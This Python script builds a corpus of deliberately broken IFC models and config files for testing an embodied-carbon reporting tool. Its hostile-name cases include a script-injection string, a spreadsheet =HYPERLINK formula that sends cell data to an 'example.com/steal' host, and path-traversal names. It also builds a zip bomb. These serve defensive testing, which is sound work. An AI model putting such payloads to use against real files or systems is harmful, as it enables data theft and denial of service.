"""Write the bad-input corpus: one folder per case in tests/bad_inputs/cases/ and the manifest
tests/bad_inputs/cases.json, which tests/test_bad_inputs.py runs through the real command line.

    python tests/bad_inputs/make_corpus.py        # rewrites cases/ and cases.json (deterministic)

Each manifest entry: ``id``, ``category``, ``description``, ``args`` (the command line after
``embodied``; ``{case}`` is the case's folder, ``{out}`` the output folder, ``{db}`` a copy of the
shipped material_db/ with the case's ``material_db/`` files laid over it), ``report`` (the file a run
writes: the test puts an earlier report there first, which a failure must leave unchanged), and
``expected``: either ``{"exit": 2, "stderr_contains": [...], "one_line": true}`` or ``{"exit": 0,
"issue_contains": "..." (a substring of a message in the report's issues/defects/assumptions, or a
take-off's problems), "note_contains", "checks": [{"path": [...], "approx"|"equals"|"is_null"|
"length": ...}], "html_absent", "xlsx_formula_absent"}``. Optional: ``env``, ``shim`` (a failing
disk, see test_bad_inputs.py), ``generate`` (a model too big to commit, written at test time by
`write_many_columns`), ``slow``, ``timeout_s``, ``known_bug`` (the expectation is right and the
product does not meet it yet: the test is an expected failure, strict).

Models are built with tests/modelkit.py (seeded: the same bytes every run) and then damaged as text,
so each case differs from a good model in the one way its description says.
"""

from __future__ import annotations

import io
import json
import re
import shutil
import sys
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
CASES_DIR = HERE / "cases"
MANIFEST = HERE / "cases.json"
MANY = 100_000  # identical elements in the generated model
REPO = HERE.parent.parent
sys.path.insert(0, str(REPO))  # run from anywhere: embodied from this checkout
sys.path.insert(0, str(HERE.parent))  # the test-model builder, tests/modelkit.py, is not in the package

CASES: list[dict[str, Any]] = []
FILES: dict[str, dict[str, bytes]] = {}


def case(
    id: str,
    category: str,
    description: str,
    args: list[str],
    expected: dict[str, Any],
    *,
    files: dict[str, str | bytes] | None = None,
    report: str | None = None,
    **extra: Any,
) -> None:
    """Register a case and the files of its folder (text is written as UTF-8)."""
    assert re.fullmatch(r"[a-z0-9][a-z0-9-]*", id), id
    assert id not in FILES, f"duplicate case {id}"
    if expected["exit"] == 2:
        expected = {"one_line": True, **expected}
    CASES.append(
        {"id": id, "category": category, "description": description, "args": args, "report": report}
        | extra
        | {"expected": expected}
    )
    FILES[id] = {
        name: content.encode("utf-8") if isinstance(content, str) else content
        for name, content in (files or {}).items()
    }


def report_args(model: str, *more: str) -> list[str]:
    return ["report", f"{{case}}/{model}", "-o", "{out}", "--format", "json", *more]


def failing(*contains: str) -> dict[str, Any]:
    return {"exit": 2, "stderr_contains": list(contains)}


def succeeding(issue: str | None = None, **more: Any) -> dict[str, Any]:
    return {"exit": 0, **({"issue_contains": issue} if issue else {}), **more}


def stem_report(model: str) -> str:
    return "{out}/" + Path(model).stem + ".json"


# -- models --------------------------------------------------------------------------------------------
def _save(model: Any, seed: str) -> str:
    """The model's STEP text, written with fixed GlobalIds and time stamps."""
    import modelkit as mk

    folder = HERE / ".build"
    folder.mkdir(exist_ok=True)
    path = mk.save(model, folder / f"{seed}.ifc", seed=seed)
    text = path.read_text(encoding="utf-8")
    path.unlink()
    return text


def base_model(schema: str = "IFC4", unit: str = "METRE") -> str:
    """A 0.4 x 0.5 x 3.0 m C30 column (0.6 m³, from geometry: no base quantities) and a 5 x 3 m wall of
    0.2 m C30 + 0.1 m rock wool with Qto_WallBaseQuantities (GrossVolume 4.5 m³: 3.0 + 1.5 m³)."""
    import modelkit as mk

    model = mk.new_model(schema, unit)  # type: ignore[arg-type]
    mk.add_box(model, "IfcColumn", "C30混凝土", size=(0.4, 0.5, 3.0), name="KZ1")
    mk.add_wall(model, [("C30混凝土", 0.2), ("岩棉板", 0.1)], size=(5.0, 3.0), name="Q1", quantities=True)
    return _save(model, f"base-{schema}-{unit}")


def column_model(name: str = "KZ1", material: str = "C30混凝土", unit: str = "METRE") -> str:
    """One 0.4 x 0.5 x 3.0 m column (0.6 m³ from geometry)."""
    import modelkit as mk

    model = mk.new_model("IFC4", unit)  # type: ignore[arg-type]
    mk.add_box(model, "IfcColumn", material, size=(0.4, 0.5, 3.0), name=name)
    return _save(model, f"column-{unit}-{len(name)}-{len(material)}")


def constituent_model(fractions: tuple[float, float]) -> str:
    """A 10 x 10 x 0.2 m slab (20 m³ base volume) of a C30 / rock-wool constituent set."""
    import modelkit as mk

    model = mk.new_model("IFC4", "METRE")
    parts = [mk.Constituent("C30混凝土", fractions[0]), mk.Constituent("岩棉板", fractions[1])]
    mk.add_slab(model, parts, size=(10.0, 10.0, 0.2), name="B1", quantities=True)
    return _save(model, f"constituents-{fractions[0]}-{fractions[1]}")


def empty_model() -> str:
    """Project, site, building and storey: no element at all."""
    import modelkit as mk

    return _save(mk.new_model("IFC4", "METRE"), "no-elements")


def one(text: str, pattern: str, replacement: str | Callable[[re.Match[str]], str]) -> str:
    """`text` with the one match of `pattern` replaced (fails loudly if the model changed shape)."""
    found = re.findall(pattern, text, flags=re.MULTILINE)
    assert len(found) == 1, (pattern, len(found))
    return re.sub(pattern, replacement, text, count=1, flags=re.MULTILINE)


def entity_id(text: str, pattern: str) -> str:
    """The step id ("#76") of the one entity line matching `pattern` (after the '=')."""
    found = re.findall(rf"^(#\d+)={pattern}", text, flags=re.MULTILINE)
    assert len(found) == 1, (pattern, found)
    return found[0]


def layer(text: str, material: str) -> str:
    """The pattern of the IFCMATERIALLAYER line of `material` (its thickness is group 2)."""
    mat = entity_id(text, rf"IFCMATERIAL\('{re.escape(step_string(material))}'")
    return rf"^(#\d+=IFCMATERIALLAYER\({mat},)([^,]+)(,)"


def step_string(text: str) -> str:
    """How ifcopenshell writes a Python string inside a STEP string (\\X2\\ for non-ASCII)."""

    def encode(run: re.Match[str]) -> str:
        return "\\X2\\" + "".join(f"{ord(ch):04X}" for ch in run[0]) + "\\X0\\"

    return re.sub(r"[^\x20-\x7e]+", encode, text.replace("'", "''"))


def write_many_columns(path: Path, count: int = MANY) -> Path:
    """`count` identical 0.4 x 0.5 x 3.0 m C30 columns (0.6 m³ each by base quantity), written as STEP
    text directly: they share one placement, one body and one quantity set, as IFC4 allows."""
    head = (
        "ISO-10303-21;\nHEADER;\nFILE_DESCRIPTION(('ViewDefinition [DesignTransferView]'),'2;1');\n"
        f"FILE_NAME('{path.name}','2024-01-01T00:00:00',(''),(''),'embodied corpus','embodied corpus','');\n"
        "FILE_SCHEMA(('IFC4'));\nENDSEC;\nDATA;\n"
        "#1=IFCPROJECT('0000000000000000000001',$,'Many columns',$,$,$,$,(#10),#5);\n"
        "#2=IFCSIUNIT(*,.LENGTHUNIT.,$,.METRE.);\n#3=IFCSIUNIT(*,.AREAUNIT.,$,.SQUARE_METRE.);\n"
        "#4=IFCSIUNIT(*,.VOLUMEUNIT.,$,.CUBIC_METRE.);\n#5=IFCUNITASSIGNMENT((#2,#3,#4));\n"
        "#6=IFCCARTESIANPOINT((0.,0.,0.));\n#7=IFCDIRECTION((0.,0.,1.));\n#8=IFCDIRECTION((1.,0.,0.));\n"
        "#9=IFCAXIS2PLACEMENT3D(#6,#7,#8);\n#10=IFCGEOMETRICREPRESENTATIONCONTEXT($,'Model',3,1.E-05,#9,$);\n"
        "#11=IFCGEOMETRICREPRESENTATIONSUBCONTEXT('Body','Model',*,*,*,*,#10,$,.MODEL_VIEW.,$);\n"
        "#12=IFCLOCALPLACEMENT($,#9);\n"
        "#13=IFCSITE('0000000000000000000002',$,'Site',$,$,#12,$,$,.ELEMENT.,$,$,$,$,$);\n"
        "#14=IFCBUILDING('0000000000000000000003',$,'Building',$,$,#12,$,$,.ELEMENT.,$,$,$);\n"
        "#15=IFCBUILDINGSTOREY('0000000000000000000004',$,'Level 1',$,$,#12,$,$,.ELEMENT.,0.);\n"
        "#16=IFCRELAGGREGATES('0000000000000000000005',$,$,$,#1,(#13));\n"
        "#17=IFCRELAGGREGATES('0000000000000000000006',$,$,$,#13,(#14));\n"
        "#18=IFCRELAGGREGATES('0000000000000000000007',$,$,$,#14,(#15));\n"
        "#19=IFCRECTANGLEPROFILEDEF(.AREA.,$,$,0.4,0.5);\n"
        "#20=IFCEXTRUDEDAREASOLID(#19,#9,#7,3.);\n"
        "#21=IFCSHAPEREPRESENTATION(#11,'Body','SweptSolid',(#20));\n"
        "#22=IFCPRODUCTDEFINITIONSHAPE($,$,(#21));\n"
        "#23=IFCMATERIAL('C30\\X2\\6DF751DD571F\\X0\\',$,$);\n"
        "#24=IFCQUANTITYVOLUME('NetVolume',$,$,0.6,$);\n"
        "#25=IFCELEMENTQUANTITY('0000000000000000000008',$,'Qto_ColumnBaseQuantities',$,$,(#24));\n"
    )
    first = 100
    ids = ",".join(f"#{first + i}" for i in range(count))
    alphabet = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz_$"
    with path.open("w", encoding="ascii", newline="\n") as fh:
        fh.write(head)
        for i in range(count):
            n, digits = i, []
            for _ in range(6):
                n, r = divmod(n, 64)
                digits.append(alphabet[r])
            guid = "1" + "0" * 15 + "".join(reversed(digits))
            fh.write(f"#{first + i}=IFCCOLUMN('{guid}',$,'KZ',$,$,#12,#22,$,.COLUMN.);\n")
        fh.write(f"#26=IFCRELCONTAINEDINSPATIALSTRUCTURE('0000000000000000000009',$,$,$,({ids}),#15);\n")
        fh.write(f"#27=IFCRELASSOCIATESMATERIAL('000000000000000000000A',$,$,$,({ids}),#23);\n")
        fh.write(f"#28=IFCRELDEFINESBYPROPERTIES('000000000000000000000B',$,$,$,({ids}),#25);\n")
        fh.write("ENDSEC;\nEND-ISO-10303-21;\n")
    return path


# -- the cases -------------------------------------------------------------------------------------------
def refused(id: str, cat: str, what: str, content: str | bytes | None, *problem: str, **extra: Any) -> None:
    """A model `embodied report` must refuse: one line naming the model and the `problem`."""
    name = extra.pop("name", "model.ifc")
    files = {name: content} if content is not None else {}
    contains = (f"{{case}}/{name}", *problem)
    case(id, cat, what, report_args(name), failing(*contains), files=files, report=stem_report(name), **extra)


def reported(id: str, cat: str, what: str, content: str | bytes, issue: str | None, **more: Any) -> None:
    """A model `embodied report` must take, showing `issue` among its issues (`more`: the checks)."""
    extra = {k: more.pop(k) for k in ("known_bug", "env") if k in more}
    files = {"model.ifc": content}
    expected = succeeding(issue, **more)
    case(id, cat, what, report_args("model.ifc"), expected, files=files, report="{out}/model.json", **extra)


def at(*path: Any, **check: Any) -> dict[str, Any]:
    """A check of the report JSON: the value at `path` (keys, indexes, or {field: value} to pick the
    first matching list item) is `approx`, `equals`, `not_equals`, `is_null` or has `length`."""
    return {"path": list(path), **check}


WALL_C30 = ("elements", {"material": "C30混凝土", "ifc_class": "IfcWall"}, "volume_m3")


def file_cases(base: str) -> None:
    cat = "not an IFC file"
    refused("empty-file", cat, "a 0-byte .ifc", b"", "file is empty")
    refused("whitespace-only", cat, "only blanks and newlines", "  \n\t\r\n  \n", "file is empty")
    note = "Minutes of the design meeting\nThe model follows next week.\n"
    refused("plain-text", cat, "a text note named .ifc", note, "not an IFC file")
    noise = b"\x89PNG\r\n\x1a\n" + bytes((i * 7919 + 13) % 251 for i in range(4096))
    refused("binary-noise", cat, "a PNG signature and binary noise", noise, "not an IFC file")
    xml = "<?xml version='1.0' encoding='UTF-8'?>\n<ifcXML><IfcProject/></ifcXML>\n"
    refused("ifcxml", cat, "an ifcXML document named .ifc", xml, "is XML")
    utf16 = base.encode("utf-16")
    refused("utf16-ifc", cat, "a whole IFC saved as UTF-16 (with BOM)", utf16, "not an IFC file")
    refused("missing-file", cat, "the model named does not exist", None, "file not found", name="absent.ifc")
    case(
        "model-is-a-folder", cat, "the model path is a folder", report_args("model.ifc"),
        failing("{case}/model.ifc", "is a directory"),
        files={"model.ifc/README.txt": "a folder named like a model\n"}, report="{out}/model.json",
    )  # fmt: skip
    limit = {"EMBODIED_MAX_IFC_BYTES": "2000"}
    what = "a plain .ifc larger than EMBODIED_MAX_IFC_BYTES (2000 here)"
    refused("larger-than-limit", cat, what, base, "more than the limit of 2,000", env=limit)


def truncation_cases(base: str) -> None:
    cat = "truncated"
    wall = base.index("=IFCWALL(")
    cut = base[: wall + 25]
    refused("cut-mid-entity", cat, "cut in the middle of the wall's entity line", cut, "truncated")
    header = base[: base.index("ENDSEC;")]
    refused("cut-in-header", cat, "cut inside HEADER, after FILE_SCHEMA", header, "truncated")
    early = base[: base.index("FILE_NAME")]
    refused("cut-before-schema", cat, "cut inside HEADER, before FILE_SCHEMA", early, "no FILE_SCHEMA")
    wall_id = base[:wall].rsplit("\n", 1)[1]
    what = (
        "cut in the middle of the wall's entity, then ENDSEC and the trailer appended (the cut does not "
        "show at the end of the file): the wall is half-read, which the issues must say"
    )
    patched = cut + "\nENDSEC;\nEND-ISO-10303-21;\n"
    reported("cut-mid-entity-trailer-added", cat, what, patched, f"instance {wall_id}")


def schema_cases(base: str, base2x3: str) -> None:
    cat = "schema header"
    header = "FILE_SCHEMA(('IFC4'));"
    assert base.count(header) == 1

    def schema(name: str) -> str:
        return base.replace(header, f"FILE_SCHEMA(('{name}'));")

    refused("unknown-schema", cat, "FILE_SCHEMA(('IFC9'))", schema("IFC9"), "unsupported IFC schema 'IFC9'")
    what = "FILE_SCHEMA(('IFC4X3_RC4')): a pre-release ifcopenshell does not know"
    rc4 = "unsupported IFC schema 'IFC4X3_RC4'"
    refused("prerelease-schema", cat, what, schema("IFC4X3_RC4"), rc4)
    refused("empty-schema", cat, "FILE_SCHEMA(('')): naming nothing", schema(""), "unsupported IFC schema ''")
    refused("no-schema", cat, "a header without FILE_SCHEMA", base.replace(header, ""), "no FILE_SCHEMA")
    what = "an IFC2X3 model whose header claims IFC4: IFC2X3 entities have other attribute counts"
    mixed = base2x3.replace("FILE_SCHEMA(('IFC2X3'));", header)
    reported("ifc4-header-ifc2x3-entities", cat, what, mixed, "attribute values")
    what = "an IFC4 model whose header claims IFC2X3: IFC4-only entities are unknown to IFC2X3"
    reported("ifc2x3-header-ifc4-entities", cat, what, schema("IFC2X3"), "not found in schema 'IFC2X3'")


def structure_cases(base: str) -> None:
    cat = "broken structure"
    rock = entity_id(base, rf"IFCMATERIAL\('{re.escape(step_string('岩棉板'))}'")
    line = re.search(rf"^{rock}=.*$", base, flags=re.MULTILINE)
    assert line
    dup = base.replace(line[0], line[0] + f"\n{rock}=IFCMATERIAL('Duplicate of {rock}',$,$);")
    reported("duplicate-entity-ids", cat, f"two entities numbered {rock}", dup, f"name {rock}")
    column = entity_id(base, r"IFCCOLUMN\(")
    association = rf"(IFCRELASSOCIATESMATERIAL\('[^']+',\$,\$,\$,\({column}\),)(#\d+)\)"
    dangling = one(base, association, r"\g<1>#999999)")
    what = "the column's material association points to #999999"
    reported("dangling-material-reference", cat, what, dangling, "#999999")
    shape = one(base, rf"^({column}=IFCCOLUMN\('[^']+',\$,'KZ1',\$,\$,#\d+,)(#\d+)", r"\g<1>#888888")
    what = "the column's representation points to #888888: the column has no quantity, not 0"
    no_volume = at("elements", {"name": "KZ1"}, "volume_m3", is_null=True)
    reported("dangling-representation-reference", cat, what, shape, "#888888", checks=[no_volume])
    project = re.search(r"^#\d+=IFCPROJECT\(.*\n", base, flags=re.MULTILINE)
    assert project
    what = "the IfcProject entity removed (so no units)"
    refused("no-ifcproject", cat, what, base.replace(project[0], ""), "no IfcProject")
    what = "a project with a site, a building and a storey, and no element: totals empty, not 0"
    empty = [at("materials", length=0), at("totals", "stages", "production", is_null=True)]
    reported("no-elements", cat, what, empty_model(), "no element to take off", checks=empty)
    outline = re.escape("((0.,0.),(0.,0.5),(0.4,0.5),(0.4,0.),(0.,0.))")  # the column's 0.4 x 0.5 m
    degenerate = one(base, rf"^(#\d+=IFCCARTESIANPOINTLIST2D\(){outline}", r"\g<1>((0.,0.),(0.,0.),(0.,0.))")
    what = "the column's body extrudes a profile whose outline collapsed to a point: no quantity, not 0"
    reported("representation-fails", cat, what, degenerate, "no base volume", checks=[no_volume])


def layer_cases(base: str) -> None:
    cat = "bad layers and fractions"
    concrete, wool = layer(base, "C30混凝土"), layer(base, "岩棉板")
    zero = one(base, concrete, r"\g<1>0.\g<3>")
    what = "the 0.2 m C30 layer of the wall written as 0 thick"
    reported("zero-layer-thickness", cat, what, zero, "(C30混凝土) has zero thickness")
    all_zero = one(zero, wool, r"\g<1>0.\g<3>")
    reported("all-layers-zero", cat, "both layers of the wall 0 thick", all_zero, "zero total thickness")
    negative = one(base, concrete, r"\g<1>-0.2\g<3>")
    what = "the C30 layer written as -0.2 m"
    reported("negative-layer-thickness", cat, what, negative, "is -0.2 m thick: negative")
    nan = one(base, concrete, r"\g<1>NaN\g<3>")
    what = (
        "the C30 layer's thickness written as NaN (not a STEP number: the parser loses it); the C30 layer "
        "must not silently become 0 m³"
    )
    not_zero = at(*WALL_C30, not_equals=0.0)
    reported("nan-layer-thickness", cat, what, nan, "no valid thickness", checks=[not_zero])
    gross = r"(IFCQUANTITYVOLUME\('GrossVolume',\$,\$,)([^,]+)(,)"
    what = "the wall's GrossVolume written as NaN: the geometry (4.5 m³) is used and the issues say why"
    nan_volume = one(base, gross, r"\g<1>NaN\g<3>")
    reported("nan-base-quantity", cat, what, nan_volume, "NaN", checks=[at(*WALL_C30, approx=3.0)])
    what = "the wall's GrossVolume written as -4.5 m³: ignored (the row says so), the geometry used"
    minus = one(base, gross, r"\g<1>-4.5\g<3>")
    ignored = "is not positive: ignored"
    checks = [at(*WALL_C30, approx=3.0)]
    reported("negative-base-quantity", cat, what, minus, None, note_contains=ignored, checks=checks)
    what = "a slab of two constituents with Fraction 0 and 0"
    reported("fractions-sum-zero", cat, what, constituent_model((0.0, 0.0)), "Fractions summing to 0")
    what = "a slab of two constituents with Fraction 0.9 and 0.6 (sum 1.5): rescaled, 12 + 8 m³"
    rescaled = [at("elements", {"material": "C30混凝土"}, "volume_m3", approx=12.0)]
    slab = constituent_model((0.9, 0.6))
    reported("fractions-sum-above-one", cat, what, slab, "sum to 1.5, not 1", checks=rescaled)


def unit_cases(base: str) -> None:
    cat = "units"
    no_units = one(base, r"^(#\d+=IFCPROJECT\(.*),(#\d+)\);$", r"\g<1>,$);")
    what = "the project's UnitsInContext removed"
    reported("no-units", cat, what, no_units, "no length unit declared: metre assumed")
    feet = column_model(unit="FOOT")
    what = "conversion-based feet, square and cubic feet: a 0.4 x 0.5 x 3.0 m column must be 0.6 m³"
    checks = [
        at("materials", {"material": "C30混凝土"}, "volume_m3", approx=0.6),
        at("project", "length_unit", equals="FOOT"),
    ]
    reported("imperial-units", cat, what, feet, None, checks=checks)
    zero = one(feet, r"IFCMEASUREWITHUNIT\(IFCREAL\(0\.3048\)", "IFCMEASUREWITHUNIT(IFCREAL(0.)")
    what = "the foot defined as 0 m (a conversion factor of 0): no length may silently become 0"
    refused("zero-conversion-factor", cat, what, zero, "length unit converts to 0")


def name_cases() -> None:
    cat = "hostile names"
    long_name, long_material = "超长构件名称" * 20_000, "超长材料名称-" * 2_000
    what = "an element name of 120 000 and a material name of 14 000 characters"
    model = column_model(long_name, long_material)
    checks = [at("unmatched", 0, "volume_m3", approx=0.6)]
    reported("very-long-names", cat, what, model, long_material[:60], checks=checks)
    latin1 = column_model("KZ-latin1", "Beton-C30").encode().replace(b"'KZ-latin1'", b"'KZ-\xe9\xe8\xff\xfe'")
    what = (
        "an element name holding raw Latin-1 bytes (not STEP-encoded, not UTF-8): counted as usual, and "
        "the issues say the name lost characters"
    )
    # ifcopenshell drops bytes that are not UTF-8 ('KZ-\xe9\xe8\xff\xfe' is read as 'KZ-'); reading.py
    # checks the bytes itself and the issues say so
    checks = [at("materials", {"material": "Beton-C30"}, "volume_m3", approx=0.6)]
    reported("non-utf8-name", cat, what, latin1, "UTF-8", checks=checks)

    def names(id: str, what: str, model: str, formats: str, issue: str | None, **more: Any) -> None:
        args = ["report", "{case}/model.ifc", "-o", "{out}", "--format", formats]
        case(
            id,
            cat,
            what,
            args,
            succeeding(issue, **more),
            files={"model.ifc": model},
            report="{out}/model.json",
        )

    def takeoff(id: str, what: str, model: str, **more: Any) -> None:
        args = ["takeoff", "{case}/model.ifc", "-o", "{out}/takeoff.xlsx", "--no-geometry"]
        expected = succeeding(None, xlsx="{out}/takeoff.xlsx", **more)
        files = {"model.ifc": model}
        case(id, cat, what, args, expected, files=files, report="{out}/takeoff.xlsx")

    script = "<script>alert('embodied')</script>"
    what = "element and material named <script>…</script>: escaped in HTML"
    names(
        "script-in-names", what, column_model(script, script), "json,html", script, html_absent=["<script>a"]
    )
    link = '=HYPERLINK("http://example.com/steal?d="&A1,"Click")'
    linked = column_model("=1+2", link)
    what = "a material named =HYPERLINK(…): text, never a formula, in the Excel report"
    names("hyperlink-in-names", what, linked, "json,xlsx", "HYPERLINK", xlsx_formula_absent="HYPERLINK")
    what = "the same names in `embodied takeoff -o t.xlsx`: text, never a formula"
    takeoff("hyperlink-in-names-takeoff-xlsx", what, linked, xlsx_formula_absent="HYPERLINK")
    dots = "../../../../tmp/embodied-escape"
    what = "element and material named ../../…: only data, never a path"
    names("dotdot-in-names", what, column_model(dots, dots), "json,html,xlsx", dots)
    control = "KZ\x07bell\x1b[31mred\x08\x0b\x0c\ttab\r\nline\x7f"
    controlled = column_model(control, "Mat" + control)
    what = "names with BEL, ESC, backspace, form feed, CR/LF and DEL"
    names("control-chars-in-names", what, controlled, "json,html,xlsx", "bell")
    what = "the same names in `embodied takeoff -o t.xlsx` (openpyxl refuses control characters)"
    takeoff("control-chars-in-names-takeoff-xlsx", what, controlled)


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(
                zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), data, zipfile.ZIP_DEFLATED
            )
    return buffer.getvalue()


def _patch_zip(data: bytes, local: int, central: int, value: int, *, mask: bool = False) -> bytes:
    """Set one byte of the (single) member's local header and of its central directory entry."""
    patched = bytearray(data)
    for at_ in (patched.find(b"PK\x03\x04") + local, patched.find(b"PK\x01\x02") + central):
        patched[at_] = (patched[at_] | value) if mask else value
    return bytes(patched)


def zip_cases(base: str) -> None:
    cat = ".ifczip"

    def bad(id: str, what: str, archive: bytes, *problem: str, **extra: Any) -> None:
        refused(id, cat, what, archive, *problem, name="model.ifczip", **extra)

    ok = _zip({"model.ifc": base.encode()})
    bad("ifczip-zero-bytes", "a 0-byte .ifczip", b"", "file is empty")
    bad("ifczip-empty-archive", "a valid zip with no member", _zip({}), "holds no .ifc file")
    bad("ifczip-corrupt", "a zip signature and noise", b"PK\x03\x04" + bytes(range(256)) * 4, "not a valid")
    flipped = bytearray(ok)
    flipped[30 + len("model.ifc") + 200] ^= 0xFF  # inside the compressed data
    bad("ifczip-bad-crc", "one byte of the compressed model flipped", bytes(flipped), ".ifczip archive")
    bad("ifczip-cut", "the archive cut in half", ok[: len(ok) // 2], "not a valid .ifczip")
    two = _zip({"a.ifc": base.encode(), "b.ifc": base.encode()})
    bad("ifczip-several-models", "two models in one archive", two, "holds 2 models (a.ifc, b.ifc)")
    text = _zip({"model.ifc": b"not a model\n"})
    bad("ifczip-member-not-ifc", "the member model.ifc holds a text note", text, "not an IFC file")
    half = _zip({"model.ifc": base[: len(base) // 2].encode()})
    bad("ifczip-member-truncated", "the member is an IFC cut mid-entity", half, "truncated")
    encrypted = _patch_zip(ok, 6, 8, 0x01, mask=True)
    bad("ifczip-encrypted", "the member flagged as encrypted (password protected)", encrypted, "encrypted")
    aes = _patch_zip(ok, 8, 10, 99)
    what = "the member's compression method set to 99 (AES)"
    bad("ifczip-unknown-compression", what, aes, "unsupported compression")
    # a zip bomb: a real model padded with a 3 MB comment that deflates to a few kB
    bomb = _zip({"model.ifc": base.replace("DATA;\n", "DATA;\n/*" + " " * 3_000_000 + "*/\n", 1).encode()})
    limit = {"EMBODIED_MAX_IFC_BYTES": "1000000"}
    what = f"a {len(bomb) // 1024} kB archive whose model expands to 3 MB, over a limit of 1 MB"
    bad("ifczip-bomb", what, bomb, "more than the limit of 1,000,000", env=limit)
    lying = bytearray(bomb)  # uncompressed size: offset 22 in the local header, 24 in the directory
    for at_ in (lying.find(b"PK\x03\x04") + 22, lying.find(b"PK\x01\x02") + 24):
        lying[at_ : at_ + 4] = (1000).to_bytes(4, "little")
    what = (
        "the same bomb declaring an uncompressed size of 1000 bytes: zipfile reads no more than that, "
        "so the lie shows as a CRC failure; never more than the limit is read"
    )
    bad("ifczip-bomb-lying-size", what, bytes(lying), "not a valid .ifczip", "CRC", env=limit)


def path_and_output_cases(base: str) -> None:
    cat = "paths and output"
    folder = "带 空格 的 文件夹"
    model = f"{folder}/办公楼 模型 v2.ifc"
    checks = [at("materials", {"material": "C30混凝土"}, "volume_m3", approx=3.6)]
    what = "a model in a folder and file named with spaces and Chinese"
    case(
        "path-spaces-chinese", cat, what, report_args(model), succeeding(None, checks=checks),
        files={model: base}, report=stem_report(model),
    )  # fmt: skip
    what = "an empty model at such a path: the error names it whole"
    refused("path-spaces-chinese-error", cat, what, b"", "file is empty", name=f"{folder}/空 模型.ifc")

    def output(id: str, what: str, args: list[str], *problem: str, report: str, **extra: Any) -> None:
        case(id, cat, what, args, failing(*problem), files={"model.ifc": base}, report=report, **extra)

    what = (
        "the output folder is read-only (chmod 555; as root, where chmod does not stop writes, the "
        "test's shim refuses them with EACCES instead)"
    )
    shim = {"errno": "EACCES", "dir": "{out}"}
    json_report = report_args("model.ifc")
    output("output-read-only", what, json_report, "{out}", "not writable", report="{out}/model.json",
           shim=shim, read_only_out=True)  # fmt: skip
    what = (
        "the output folder looks writable (os.access says yes, as on some network or ACL folders) but "
        "creating a file there fails with EACCES"
    )
    output("output-refuses-files", what, json_report, "{out}", "Permission denied", report="{out}/model.json",
           shim={**shim, "access": "true"})  # fmt: skip
    what = (
        "the disk fills while the HTML report is written (a shim raises ENOSPC after 4 kB): the JSON "
        "already rendered must not be moved into place either"
    )
    args = ["report", "{case}/model.ifc", "-o", "{out}", "--format", "json,html"]
    full = {"errno": "ENOSPC", "dir": "{out}"}
    output("disk-full", what, args, "{out}", "No space left on device", report="{out}/model.json",
           shim={**full, "match": ".html."})  # fmt: skip
    what = "the disk fills while `embodied takeoff -o t.json` writes"
    args = ["takeoff", "{case}/model.ifc", "-o", "{out}/takeoff.json"]
    output("disk-full-takeoff", what, args, "{out}/takeoff.json", "No space left on device",
           report="{out}/takeoff.json", shim=full)  # fmt: skip
    args = ["report", "{case}/model.ifc", "-o", "{case}/not-a-folder", "--format", "json"]
    case(
        "output-is-a-file", cat, "-o names an existing file, not a folder", args,
        failing("{case}/not-a-folder", "is not a directory"),
        files={"model.ifc": base, "not-a-folder": "an earlier file\n"}, report="{case}/not-a-folder",
    )  # fmt: skip
    args = report_args("model.ifc", "--format", "docx")
    output("unknown-format", "--format docx", args, "--format", "docx", report="{out}/model.json")
    args = report_args("model.ifc", "--lang", "fr")
    output("unknown-language", "--lang fr", args, "--lang", "'fr'", report="{out}/model.json")


def config_cases(base: str) -> None:
    cat = "bad project file"

    def cfg(id: str, what: str, text: str | bytes, *problem: str, beside: bool = False) -> None:
        more = () if beside else ("--config", "{case}/embodied.toml")
        files = {"model.ifc": base, "embodied.toml": text}
        case(id, cat, what, report_args("model.ifc", *more), failing(*problem), files=files,
             report="{out}/model.json")  # fmt: skip

    good = '[building]\nname = "示例"\ngross_floor_area_m2 = 1200\nprovince = "北京"\n'
    line3, line4 = "{case}/embodied.toml:3", "{case}/embodied.toml:4"
    cfg("config-toml-syntax", "a TOML syntax error on line 3", good.replace("= 1200", "= 12 00"), line3)
    what = "an unknown key (floor_area instead of gross_floor_area_m2)"
    unknown = good.replace("gross_floor_area_m2", "floor_area")
    cfg("config-unknown-key", what, unknown, line3, "building.floor_area", "unknown key")
    area = "building.gross_floor_area_m2"
    text = good.replace("= 1200", '= "1200 m2"')
    cfg("config-wrong-type", "a number given as a string", text, line3, area, "expected a number")
    text = good.replace("= 1200", "= -1200")
    cfg("config-negative-area", "gross_floor_area_m2 = -1200", text, line3, area, "> 0", "-1200")
    text = good.replace("= 1200", "= nan")
    cfg("config-nan-area", "gross_floor_area_m2 = nan (TOML allows it)", text, line3, area, "finite")
    text = good.replace("北京", "Atlantis")
    cfg("config-unknown-province", 'province = "Atlantis"', text, line4, "building.province", "Atlantis")
    what = "the project file saved as GBK (its first Chinese text is on line 2)"
    cfg("config-not-utf8", what, good.encode("gbk"), "{case}/embodied.toml:2", "not UTF-8")
    what = "a broken embodied.toml found beside the model (no --config)"
    cfg("config-beside-model-broken", what, good.replace("= 1200", "= 12 00"), line3, beside=True)
    args = report_args("model.ifc", "--config", "{case}/absent.toml")
    what = "--config names a file that does not exist"
    case("config-missing", cat, what, args, failing("{case}/absent.toml", "file not found"),
         files={"model.ifc": base}, report="{out}/model.json")  # fmt: skip


def mapping_cases(base: str) -> None:
    cat = "bad mapping"

    def mapping(id: str, what: str, text: str | bytes, *problem: str) -> None:
        args = report_args("model.ifc", "--mapping", "{case}/mapping.csv")
        files = {"model.ifc": base, "mapping.csv": text}
        case(id, cat, what, args, failing(*problem), files=files, report="{out}/model.json")

    head, c30 = "material,factor_id\n", "C30混凝土,gbt51366:D:concrete_c30\n"
    where = "{case}/mapping.csv"
    text = head + c30 + "岩棉板,gbt51366:D:no_such_factor\n"
    what = "a factor id that is not in the database"
    mapping(
        "mapping-unknown-factor", what, text, f"{where}:3", "unknown factor id 'gbt51366:D:no_such_factor'"
    )
    text = head + c30 + "C30混凝土,gbt51366:D:concrete_c50\n"
    mapping(
        "mapping-duplicate-rows", "one material mapped twice, to two factors", text, f"{where}:3", "already"
    )
